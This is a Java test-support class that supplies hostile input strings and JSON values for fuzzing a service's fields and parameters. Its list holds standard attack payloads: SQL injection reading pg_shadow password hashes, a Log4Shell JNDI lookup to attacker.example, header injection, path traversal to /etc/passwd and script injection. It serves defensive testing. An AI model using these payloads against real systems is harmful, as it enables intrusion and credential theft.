package org.contactpoint.testing.security;

import java.util.List;
import java.util.Random;

/** Strings and raw JSON values that have broken services before: injection, encoding tricks, extremes. */
public final class HostileValues {

    /** Strings a field, a path segment or a query parameter might receive from an attacker. */
    public static final List<String> STRINGS = List.of(
            "' OR '1'='1", "'; DROP TABLE child; --", "1' UNION SELECT usename, passwd FROM pg_shadow --",
            "%' AND 1=(SELECT 1 FROM pg_sleep(0)) --", "\\'", "\"", "\\", "%", "_", "%%_%%", "*",
            "{\"$ne\":null}", "\"}],\"x\":{\"", "{{7*7}}", "${jndi:ldap://attacker.example/a}", "#{7*7}",
            "a\r\nSet-Cookie: stolen=1", "a\nX-Injected: 1", "\r\n\r\nHTTP/1.1 200 OK", "..%2F..%2Fetc%2Fpasswd",
            "../../etc/passwd", "<script>alert(1)</script>", "javascript:alert(1)", "\u0000", "a\u0000b",
            "\ud800", "a\udc00b",
            "\u202Eevil", "\uFEFF", "\uFFFF", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "👶🏽", "Zoë Ōkafor-Ñúñez", "", " ", "\t\n",
            "NaN", "Infinity", "-1", "0", "99999999999999999999999999999", "1e309", "2016-13-45", "0000-00-00",
            "9999-12-31", "+1000000-01-01", "-2016-03-14", "2016-02-30", "CP-00000-0000", "null", "true",
            "a".repeat(10_000));

    /** Text with a NUL character, which PostgreSQL refuses in every text column. */
    public static final String NUL = "Nul\u0000text";

    /**
     * Text with a lone high surrogate: not Unicode at all, so no encoding can store it (PostgreSQL's driver made it
     * {@code ?}). In JSON it can only arrive as the escape {@code \\ud800}, which {@link #quote} writes.
     */
    public static final String LONE_SURROGATE = "Lone\ud800surrogate";

    /** The texts every service must refuse wherever they appear, each with a short name for reports. */
    public static final java.util.Map<String, String> UNSTORABLE_TEXT = java.util.Map.of(
            "NUL character", NUL, "lone surrogate", LONE_SURROGATE);

    /** Raw JSON texts to put where a value belongs. */
    public static final List<String> JSON_VALUES = List.of(
            "null", "true", "false", "0", "-1", "1.5", "1e309", "-1e309", "99999999999999999999999999999999",
            "-9223372036854775809", "[]", "{}", "[null]", "{\"\":null}", "\"\"", "[[[[[[[[[[]]]]]]]]]]",
            "{\"a\":{\"b\":{\"c\":{\"d\":{}}}}}");

    private HostileValues() {
    }

    public static String string(Random random) {
        return STRINGS.get(random.nextInt(STRINGS.size()));
    }

    /** A hostile value as JSON text: a quoted hostile string or a raw hostile value. */
    public static String json(Random random) {
        return random.nextBoolean() ? quote(string(random)) : JSON_VALUES.get(random.nextInt(JSON_VALUES.size()));
    }

    /**
     * The string as a JSON string literal. Control characters and surrogates that are not part of a pair are written
     * as {@code \\uXXXX} escapes, as an attacker would write them: raw, a lone surrogate could not even be encoded.
     */
    public static String quote(String s) {
        StringBuilder out = new StringBuilder("\"");
        char[] chars = s.toCharArray();
        for (int i = 0; i < chars.length; i++) {
            char c = chars[i];
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    boolean paired = Character.isHighSurrogate(c) && i + 1 < chars.length
                            && Character.isLowSurrogate(chars[i + 1])
                            || Character.isLowSurrogate(c) && i > 0 && Character.isHighSurrogate(chars[i - 1]);
                    if (c < 0x20 || Character.isSurrogate(c) && !paired) {
                        out.append(String.format("\\u%04x", (int) c));
                    } else {
                        out.append(c);
                    }
                }
            }
        }
        return out.append('"').toString();
    }
}
